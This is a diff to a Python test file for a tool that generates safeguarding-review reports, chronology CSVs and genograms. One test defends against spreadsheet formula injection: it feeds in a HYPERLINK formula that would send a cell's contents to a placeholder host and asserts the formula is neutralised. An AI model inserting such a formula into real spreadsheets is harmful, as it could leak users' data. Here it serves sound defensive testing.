@@ -14,6 +14,7 @@ from scrdocs.casefile import load_case, parse_case
 from scrdocs.chronology import COLUMNS
 from scrdocs.documents import KINDS
 from scrdocs.examples import minimal_case_path
+from scrdocs.output import RECORD_NAME
 
 OVERVIEW_HEADINGS = [
     "1 Introduction", "1.1 Circumstances that led to the review", "1.2 Terms of reference", "1.3 Methodology",
@@ -50,7 +51,7 @@ def test_build_writes_every_document_and_the_csv(built):
         "overview-report.docx", "executive-summary.docx", "imr-asc.docx", "imr-gp.docx", "imr-dn.docx",
         "imr-police.docx", "integrated-chronology.docx", "integrated-chronology.csv", "action-plan.docx",
         "seven-minute-briefing.docx"])
-    assert sorted(p.name for p in built.out_dir.iterdir()) == names  # nothing else (no temp files)
+    assert sorted(p.name for p in built.out_dir.iterdir() if p.name != RECORD_NAME) == names  # no temp files
     assert built.pdf == []
 
 
@@ -272,8 +273,8 @@ def test_genogram_and_timeline_are_embedded(case, tmp_path):
 
 def test_existing_output_folder_is_replaced_only_when_complete(case, tmp_path, monkeypatch):
     out = tmp_path / "out"
-    out.mkdir()
-    (out / "keep.txt").write_text("previous build")
+    build_documents(case, out, pdf=False, kinds=["overview_report"])
+    previous = (out / "overview-report.docx").read_bytes()
     import scrdocs.build as build_module
 
     def fail(*args, **kwargs):
@@ -282,7 +283,8 @@ def test_existing_output_folder_is_replaced_only_when_complete(case, tmp_path, m
     monkeypatch.setattr(build_module, "write_chronology_csv", fail)
     with pytest.raises(RuntimeError):
         build_documents(case, out, pdf=False)
-    assert [p.name for p in out.iterdir()] == ["keep.txt"]
+    assert sorted(p.name for p in out.iterdir()) == [RECORD_NAME, "overview-report.docx"]
+    assert (out / "overview-report.docx").read_bytes() == previous
     assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no staging folder left behind
 
 
@@ -300,3 +302,126 @@ def test_long_chronology_is_split_into_tables_with_headers_in_order(tmp_path):
     from scrdocs.chronology import chronology_rows
 
     assert rows == [[r[k] for k, _ in COLUMNS] for r in chronology_rows(case)]
+
+
+def _briefing_paragraphs(tmp_path, case):
+    render_docx(case, "seven_minute_briefing", tmp_path / "b.docx")
+    doc = open_docx(tmp_path / "b.docx")
+    sections, current = {}, None
+    for para in doc.paragraphs:
+        if para.style.name.startswith("Heading 2"):
+            current = sections.setdefault(para.text.strip(), [])
+        elif current is not None and para.text.strip():
+            current.append(para)
+    return sections
+
+
+def test_briefing_lists_the_themes_of_a_one_sentence_list_as_separate_points(tmp_path):
+    from scrdocs.examples import load_example_case
+
+    case = load_example_case()
+    # The example's key issues are one sentence "Five themes emerged: a; b; ...; and e."
+    assert case.narrative.key_issues.startswith("Five themes emerged:")
+    issues = [p.text for p in _briefing_paragraphs(tmp_path, case)["Key issues"]]
+    assert issues[0] == "The voice of Adult A was heard mostly through her son."
+    assert len(issues) == 5 and not any(x.startswith(("and ", "And ")) or x.endswith("…") for x in issues)
+    assert issues[-1].startswith("Cancelled care, refused access")
+
+
+def test_briefing_recommendations_carry_their_number_without_a_bullet_and_are_cut_at_a_clause(tmp_path):
+    from scrdocs.examples import load_example_case
+
+    case = load_example_case()
+    recs = _briefing_paragraphs(tmp_path, case)["Recommendations"]
+    assert [p.text.split(".")[0] for p in recs] == [str(r.number) for r in case.recommendations]
+    assert all(p.style.name != "List Bullet" for p in recs)  # the number is the marker
+    cut_at = []
+    for para in recs:
+        if para.text.endswith("…"):  # shortened: at a whole word, at a clause end where there is one
+            kept = para.text[:-1].split(". ", 1)[1]
+            rec = next(r.recommendation for r in case.recommendations if para.text.startswith(f"{r.number}. "))
+            following = " ".join(rec.split())[len(kept):]
+            assert following[:1] in (",", ";", ":", " "), para.text
+            cut_at.append(following[:1])
+    assert "," in cut_at  # the example has long recommendations with clauses
+
+
+def test_shorten_prefers_a_clause_end():
+    from scrdocs.documents import _shorten
+
+    text = "Agencies should record the reasons, and they should tell the carer about the outcome of every review"
+    assert _shorten(text, 60) == "Agencies should record the reasons…"
+    assert _shorten("short", 60) == "short"
+    no_clause = "word " * 30
+    assert _shorten(no_clause, 42) == ("word " * 8).strip() + "…"
+
+
+def test_action_plan_status_column_is_wide_enough_for_progress_notes():
+    from docx.shared import Mm
+
+    from scrdocs.documents import template_path
+
+    doc = open_docx(template_path("action_plan"))
+    table = table_with_header(doc, "No", "Recommendation")
+    widths = {cell.text.strip(): cell.width for cell in table.rows[0].cells}
+    assert widths["Status / progress"] >= Mm(29.9)
+    assert widths["Date"] >= Mm(17.9)  # "31/03/2025" on one line at 8 pt
+    assert abs(sum(widths.values()) - Mm(257)) < Mm(1)  # the landscape page's usable width
+
+
+def test_csv_cells_that_excel_would_run_as_formulas_are_kept_as_text(tmp_path, case):
+    from scrdocs.chronology import write_chronology_csv
+
+    first = case.sorted_chronology()[0]
+    risky = case.model_copy(update={"chronology": [
+        first.model_copy(update={"event": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+                                 "comments": "-ve urine dip", "source": "@records", "expected_practice": "+1 visit"}),
+        first.model_copy(update={"event": "Seen at home; A-1 grade = fine"}),
+    ]})
+    rows = list(csv.reader(write_chronology_csv(risky, tmp_path / "c.csv").read_text(encoding="utf-8-sig").splitlines()))
+    event, source, expected, comments = (rows[0].index(h) for h in (
+        "Event, action and outcome", "Source of information", "Expected practice/standards", "Comments"))
+    assert rows[1][event] == '\'=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    assert (rows[1][source], rows[1][expected], rows[1][comments]) == ("'@records", "'+1 visit", "'-ve urine dip")
+    assert rows[2][event] == "Seen at home; A-1 grade = fine"  # only a formula-like start is changed
+
+
+def _pictures(path) -> list[bytes]:
+    with zipfile.ZipFile(path) as docx:
+        return [docx.read(n) for n in sorted(docx.namelist()) if n.startswith("word/media/")]
+
+
+@pytest.mark.needs_dot
+def test_overview_report_shows_the_anonymised_genogram_and_the_imr_the_named_one(case, tmp_path):
+    # Guidance: an *anonymised* genogram in the overview report; names and dates of birth in an IMR.
+    # A picture cannot be redacted later, so a named genogram in the overview report would leak.
+    from scrdocs.genogram import draw_genogram
+
+    anonymised = draw_genogram(case, profile="anonymised", format="png")
+    internal = draw_genogram(case, profile="internal", format="png")
+    built = build_documents(case, tmp_path / "out", kinds=["overview_report", "imr"], pdf=False)
+    assert anonymised in _pictures(built.out_dir / "overview-report.docx")
+    assert internal not in _pictures(built.out_dir / "overview-report.docx")
+    for imr in built.out_dir.glob("imr-*.docx"):
+        assert internal in _pictures(imr) and anonymised not in _pictures(imr)
+    forced = build_documents(case, tmp_path / "forced", kinds=["overview_report"], pdf=False,
+                             genogram_profile="internal")
+    assert internal in _pictures(forced.out_dir / "overview-report.docx")
+    single = render_docx(case, "overview_report", tmp_path / "one.docx")
+    assert anonymised in _pictures(single)
+
+
+def test_numbered_recommendations_have_no_second_marker(built, case):
+    for name in ("executive-summary.docx", "seven-minute-briefing.docx"):
+        numbered = [p for p in _doc(built, name).paragraphs if re.match(r"\d+\. ", p.text)]
+        assert len(numbered) == len(case.recommendations), name
+        assert all(p.style.name != "List Bullet" for p in numbered), name
+
+
+def test_word_properties_carry_the_build_date_not_the_templates(built):
+    from datetime import datetime, timedelta, timezone
+
+    props = _doc(built, "overview-report.docx").core_properties
+    assert props.title.endswith("Overview report") and "{{" not in props.title
+    created = props.created.replace(tzinfo=None)
+    assert abs(datetime.now(timezone.utc).replace(tzinfo=None) - created) < timedelta(days=2) and props.modified == props.created
